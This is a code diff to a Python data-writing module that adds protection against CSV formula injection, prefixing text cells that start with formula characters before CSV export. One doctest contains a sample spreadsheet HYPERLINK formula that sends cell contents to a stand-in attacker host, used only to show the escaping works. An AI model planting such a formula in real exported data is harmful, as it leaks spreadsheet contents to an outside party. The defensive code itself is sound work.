@@ -80,12 +80,51 @@ def frame_suffix(path: str | Path) -> str:
     return suffix
 
 
+#: A text cell starting with one of these is read as a formula by spreadsheets (OWASP, "CSV Injection").
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+_PLAIN_NUMBER = r"^[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)$"
+
+
+def csv_safe(value: object) -> object:
+    """A text cell that a spreadsheet would run as a formula, prefixed with ``'`` (shown, not run).
+
+    Only text is changed, and text that is a plain number (``-3``, ``+84.72``) is a number to a
+    spreadsheet, not a formula, so it is left alone.
+
+    >>> csv_safe('=HYPERLINK("https://evil.example/?leak="&A1,"click me")')[:3]
+    "'=H"
+    >>> csv_safe("-1000"), csv_safe(-1000), csv_safe("@SUM(A1)"), csv_safe("PTA")
+    ('-1000', -1000, "'@SUM(A1)", 'PTA')
+    """
+    import re
+
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not re.match(_PLAIN_NUMBER, value):
+        return "'" + value
+    return value
+
+
+def csv_safe_frame(frame: "pl.DataFrame") -> "pl.DataFrame":
+    """Every text column of ``frame`` with :func:`csv_safe` applied (vectorised); numbers untouched."""
+    import polars as pl
+
+    starts = "^[=+\\-@\t\r]"
+    text = [c for c, t in frame.schema.items() if t == pl.String]
+    return frame.with_columns(
+        pl.when(pl.col(c).str.contains(starts) & ~pl.col(c).str.contains(_PLAIN_NUMBER))
+        .then(pl.lit("'") + pl.col(c)).otherwise(pl.col(c)).alias(c)
+        for c in text
+    )
+
+
 def write_frame(frame: "pl.DataFrame", path: str | Path) -> Path:
-    """Write a polars frame atomically as ``.csv`` or ``.parquet`` (chosen by the suffix)."""
+    """Write a polars frame atomically as ``.csv`` or ``.parquet`` (chosen by the suffix).
+
+    In CSV, text cells that a spreadsheet would run as formulas are neutralised (:func:`csv_safe`).
+    """
     suffix = frame_suffix(path)
     with atomic_write(path, "wb") as fh:
         if suffix == ".csv":
-            frame.write_csv(fh)
+            csv_safe_frame(frame).write_csv(fh)
         else:
             frame.write_parquet(fh)
     return Path(path)
